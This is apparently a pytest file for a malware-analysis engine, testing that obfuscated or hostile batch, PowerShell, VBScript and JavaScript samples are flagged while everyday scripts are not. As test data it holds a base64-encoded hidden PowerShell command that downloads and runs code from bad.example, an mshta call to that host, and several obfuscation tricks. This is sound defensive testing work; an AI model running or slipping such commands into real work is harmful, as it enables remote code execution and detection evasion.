import base64
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sample_analysis.engines.inspection import Inspection, run
from sample_analysis.engines.programs import scripts

Examine = Callable[..., Any]


def rules(report: Any) -> set[str]:
    return {reason.rule for file in report.parsed.files for reason in file.reasons}


def test_an_encoded_command_is_decoded_and_what_it_says_is_analysed(examine: Examine) -> None:
    command = "$a = (New-Object Net.WebClient).DownloadString('https://bad.example/a'); Invoke-Expression $a"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    report = examine(f"@echo off\r\npowershell -NoP -w hidden -enc {encoded}\r\n".encode(), "a.bat")
    assert "encoded-command" in rules(report)
    assert "powershell_download_and_run" in report.rules("decoded command 1")
    assert [url.url for url in report.parsed.urls] == ["https://bad.example/a"]
    assert report.root.verdict == "suspicious"


def test_data_that_a_script_decodes_is_a_child(examine: Examine, eicar: bytes) -> None:
    text = f"$b = [Convert]::FromBase64String('{base64.b64encode(eicar).decode()}')\nSet-Content -Path a -Value $b\n"
    assert examine(text.encode(), "a.ps1").root.verdict == "malicious"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.bat", "@echo off\r\n" + "c^a^l^c ^&^& p^o^w^e^r^s^h^e^l^l\r\n" * 3),
        ("a.cmd", "@echo off\r\nset a=abcdefgh\r\n" + "%a:~1,1%" * 20),
        ("a.ps1", "param($x)\n" + "i`e`x " * 10 + "Get-Item\n"),
        ("a.ps1", "&('{1}{0}{2}{3}' -f 'e','i','x','') ; ('{1}{0}{2}' -f 'e','i','x')\nSet-Item a\n"),
        ("a.vbs", "Dim a\nExecute(" + " & ".join(f"Chr({n})" for n in range(60, 100)) + ")\n"),
        ("a.vbe", "#@~^AAAAAA==abc"),
        (
            "a.js",
            "var s = new ActiveXObject('x');\nrun('mshta.exe https://bad.example/a')",
        ),
    ],
)
def test_hidden_or_hostile_commands_are_suspicious(examine: Examine, name: str, text: str) -> None:
    assert examine(text.encode(), name).root.verdict == "suspicious"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("build.bat", "@echo off\r\nset PATH=%PATH%;C:\\Tools\r\nif not exist out mkdir out\r\ncopy a.txt out\r\n"),
        ("deploy.ps1", "param($Name)\nImport-Module Tools\nGet-ChildItem -Path . | ForEach-Object { $_.Name }\n"),
        ("site.js", "function add(a, b) {\n  return a + b;\n}\nconst url = 'https://good.example/';\n"),
        (
            "logon.vbs",
            'Option Explicit\nDim net\nSet net = CreateObject("WScript.Network")\nnet.MapNetworkDrive "H:"\n',
        ),
        ("run.sh", "#!/bin/sh\nset -e\nmake -e test\ncurl -e https://good.example/ https://good.example/file\n"),
    ],
)
def test_everyday_scripts_are_not_suspicious(examine: Examine, name: str, text: str) -> None:
    assert examine(text.encode(), name).root.verdict == "unknown"


@pytest.mark.parametrize(
    "text",
    [
        "powershell -e " * 100_000,
        "a^" * 1_000_000,
        "{0}" * 500_000,
        "-e " + "A" * 3_000_000,
        "%a:~" * 500_000,
        "\n" * 2_000_000,
    ],
)
def test_hostile_scripts_end(inspection: Callable[..., Inspection], text: str) -> None:
    looked = inspection(text.encode(), "a.ps1")
    started = time.process_time()
    run(looked, scripts.inspect)
    assert time.process_time() - started < 30
    # Stopped by the clock it would have ended too, whatever its cost.
    assert not {"damaged", "parser-time"} & {limit.limit for limit in looked.node.limits}


def test_the_scripts_of_the_corpora_are_ordinary(corpora: Path, examine: Examine) -> None:
    for name in ("test.bat", "test.js", "test.iqy", "test.jnlp"):
        assert examine((corpora / "files-strelka" / name).read_bytes(), name).root.verdict == "unknown"
    assert examine((corpora / "archive-mitra/php/php.php").read_bytes(), "php.php").root.verdict == "unknown"
